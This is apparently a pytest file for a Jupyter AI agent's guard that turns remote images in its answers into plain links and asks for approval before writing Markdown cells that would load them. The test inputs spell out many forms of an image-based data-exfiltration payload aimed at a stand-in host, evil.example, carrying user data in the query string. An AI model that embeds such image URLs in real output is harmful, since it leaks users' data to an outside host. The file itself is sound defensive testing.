"""Remote images in what the agent writes (`tools/remote_media.py`): an answer shows them as
links, a Markdown cell that would show one asks first (through the one risk policy, with a
real notebook file), and code, links and local images are left alone."""

from __future__ import annotations

import json
import time
from pathlib import Path
from typing import Any

import pytest

from orkas_jupyter.config import load_settings
from orkas_jupyter.engine.events import AssistantMessage
from orkas_jupyter.engine.messages import Message, TextPart, ToolCallPart
from orkas_jupyter.engine.tool_exec import run_one
from orkas_jupyter.engine.tools import ApprovalDecision, ApprovalRequest, ToolContext, ToolRegistry
from orkas_jupyter.jupyter.chat import history_view
from orkas_jupyter.jupyter.views import event_view
from orkas_jupyter.tools.notebook import notebook_tools
from orkas_jupyter.tools.notebook_doc import FileNotebook
from orkas_jupyter.tools.policy import RiskPolicy
from orkas_jupyter.tools.remote_media import neutralize, remote_host, remote_media

EVIL = "https://evil.example/p.png?d=the-users-data"


def hosts(markdown: str, allowed: tuple[str, ...] = ()) -> list[str]:
    return [m.host for m in remote_media(markdown, allowed)]


@pytest.mark.parametrize("markdown", [
    f"Here is the chart ![plot]({EVIL}) as asked.",
    f"![plot](<{EVIL}> \"a title\")",
    f"![plot]({EVIL} 'a title')",
    f"![plot][r]\n\n[r]: {EVIL}",
    f"![plot][]\n\n[plot]: <{EVIL}>",
    f"![plot]\n\n[PLOT]: {EVIL} \"t\"",
    f'<img src="{EVIL}" alt="x">',
    f"<IMG SRC={EVIL}>",
    f'<picture><source srcset="https://cdn.example/a.png 1x, {EVIL} 2x"></picture>',
    f"<p style=\"background: url('{EVIL}')\">text</p>",
    f"<style>body {{ background: url({EVIL}) }}</style>",
    f'<svg><image href="{EVIL}"/></svg>',
    f'<video poster="{EVIL}"></video>',
    "![p](//evil.example/p.png?d=1)",
    "![p](HTTPS://EVIL.example/p.png)",
    "![wiki](https://evil.example/wiki/Foo_(bar).png)",
])
def test_every_form_of_remote_image_is_found_and_turned_into_a_link(markdown: str) -> None:
    out, found = neutralize(markdown, ())
    assert found and {m.host for m in found} <= {"evil.example", "cdn.example"}
    assert found[0].host in out  # the user still sees where it pointed …
    assert "not loaded" in out
    # … but nothing in the output would be fetched when rendered
    assert remote_media(out, ()) == []


@pytest.mark.parametrize("markdown", [
    "![local plot](figures/sales.png) and ![inline](data:image/png;base64,iVBORw0KGgo=)",
    "![att](attachment:image.png)",
    f"[a link, followed only on a click]({EVIL}) and <{EVIL}>",
    f'<a href="{EVIL}">a link</a>',
    f"`![in code]({EVIL})` stays as written",
    f"```markdown\n![in a fence]({EVIL})\n```\n",
    f"~~~\n<img src=\"{EVIL}\">\n~~~",
    "The image https://evil.example/p.png is mentioned, not shown.",
    "No URL at all: ![alt](x.png)",
])
def test_what_loads_nothing_is_left_exactly_as_written(markdown: str) -> None:
    assert neutralize(markdown, ()) == (markdown, [])


def test_allowed_hosts_and_their_subdomains_load() -> None:
    text = ("![badge](https://img.shields.io/badge/x-y-green.svg) "
            "![other](https://shields.io.evil.example/x.svg)")
    assert hosts(text, ("shields.io",)) == ["shields.io.evil.example"]
    assert hosts(text, ("SHIELDS.IO", "evil.example")) == []


def test_the_link_keeps_the_alt_text_and_the_whole_address() -> None:
    out, _ = neutralize(f"Look: ![Q3 revenue]({EVIL}) done", ())
    assert out == f"Look: [Q3 revenue — from evil.example, not loaded](<{EVIL}>) done"


def test_remote_host_reads_only_remote_addresses() -> None:
    assert remote_host(EVIL) == "evil.example"
    assert remote_host("//cdn.example/x") == "cdn.example"
    assert remote_host("http://[::1]:8888/x.png") == "::1"
    for local in ("x.png", "/files/x.png", "data:image/png;base64,AA", "#top", "mailto:a@b"):
        assert remote_host(local) is None


def test_a_huge_answer_with_unbalanced_markup_is_read_in_linear_time() -> None:
    noisy = ("![a](b `c <img src=' [x]: ( ~~~ " * 8_000) + f"![p]({EVIL})"
    start = time.perf_counter()
    out, found = neutralize(noisy, ())
    assert time.perf_counter() - start < 2.0
    assert [m.host for m in found] == ["evil.example"] and out.endswith("not loaded](<"
                                                                        f"{EVIL}>)")


def test_image_hosts_setting_from_the_environment(monkeypatch: pytest.MonkeyPatch,
                                                  tmp_path: Path) -> None:
    monkeypatch.setenv("ORKAS_IMAGE_HOSTS", "img.shields.io, github.com")
    assert load_settings(workspace=tmp_path).image_hosts == ["img.shields.io", "github.com"]
    (tmp_path / "orkas.toml").write_text('image_hosts = ["example.org"]\n')
    monkeypatch.delenv("ORKAS_IMAGE_HOSTS")
    assert load_settings(workspace=tmp_path).image_hosts == ["example.org"]


# -- what the user sees -----------------------------------------------------------------------


def test_the_panel_and_the_history_show_the_answer_with_a_link() -> None:
    message = Message(role="assistant", parts=[TextPart(text=f"Chart: ![c]({EVIL})")])
    view = event_view(AssistantMessage(message=message))
    assert view is not None and view["type"] == "assistant_end"
    assert "not loaded" in view["markdown"] and remote_media(view["markdown"], ()) == []
    shown = history_view([Message(role="user", parts=[TextPart(text="chart?")]), message])
    assert remote_media(shown[-1]["markdown"], ()) == [] and "not loaded" in shown[-1]["markdown"]


# -- a Markdown cell the agent writes asks first -----------------------------------------------


class Approvals:
    def __init__(self, decision: ApprovalDecision) -> None:
        self.decision = decision
        self.asked: list[ApprovalRequest] = []

    async def __call__(self, request: ApprovalRequest) -> ApprovalDecision:
        self.asked.append(request)
        return self.decision


async def call(tmp_path: Path, decision: ApprovalDecision, name: str, cells: list[dict[str, Any]],
               **args: Any) -> tuple[str, bool, Approvals, Path]:
    path = tmp_path / "analysis.ipynb"
    if not path.exists():
        path.write_text(json.dumps({"cells": cells, "metadata": {}, "nbformat": 4,
                                    "nbformat_minor": 5}))
    approvals = Approvals(decision)
    registry = ToolRegistry(notebook_tools())
    ctx = ToolContext(session_id="s", approve=approvals,
                      services={"notebook": FileNotebook(path)})
    if name == "edit_cell":  # edits need the cell read first
        await run_one(ToolCallPart(id="read", name="read_cell",
                                   arguments=json.dumps({"cell_id": args["cell_id"]})),
                      registry.get("read_cell"), registry, ctx, RiskPolicy())
    part = await run_one(ToolCallPart(id="c1", name=name, arguments=json.dumps(args)),
                         registry.get(name), registry, ctx, RiskPolicy())
    text = "".join(p.text for p in part.content if isinstance(p, TextPart))
    return text, part.is_error, approvals, path


def sources(path: Path) -> list[str]:
    return ["".join(c["source"]) for c in json.loads(path.read_text())["cells"]]


async def test_a_markdown_cell_showing_a_remote_image_is_not_written_when_denied(
        tmp_path: Path) -> None:
    source = f"# Results\n\n![chart]({EVIL})"
    text, is_error, approvals, path = await call(tmp_path, "deny", "insert_cell", [],
                                                 source=source, cell_type="markdown")
    assert is_error and "Not run" in text and "remote_image" in text and "link" in text
    assert [(r.tool, r.risk) for r in approvals.asked] == [("insert_cell", "remote_image")]
    assert approvals.asked[0].summary.startswith(
        "Write a Markdown cell that shows an image from evil.example")
    assert approvals.asked[0].detail == source
    assert sources(path) == []


async def test_approved_it_is_written_as_asked(tmp_path: Path) -> None:
    source = f"![chart]({EVIL})"
    text, is_error, _, path = await call(tmp_path, "once", "insert_cell", [], source=source,
                                         cell_type="markdown")
    assert not is_error, text
    assert sources(path) == [source]


async def test_code_cells_and_plain_markdown_do_not_ask(tmp_path: Path) -> None:
    for source, kind in ((f"url = '{EVIL}'", "code"), ("# Notes\n\n![p](plot.png)", "markdown"),
                         (f"See [the data]({EVIL}).", "markdown")):
        text, is_error, approvals, _ = await call(tmp_path, "deny", "insert_cell", [],
                                                  source=source, cell_type=kind)
        assert not is_error, text
        assert approvals.asked == []


async def test_editing_a_markdown_cell_to_show_a_remote_image_asks(tmp_path: Path) -> None:
    cells = [{"cell_type": "markdown", "id": "m1", "metadata": {}, "source": "# Notes"}]
    text, is_error, approvals, path = await call(
        tmp_path, "deny", "edit_cell", cells, cell_id="m1",
        source=f'# Notes\n<img src="{EVIL}">')
    assert is_error and "remote_image" in text
    assert [r.risk for r in approvals.asked] == ["remote_image"]
    assert sources(path) == ["# Notes"]
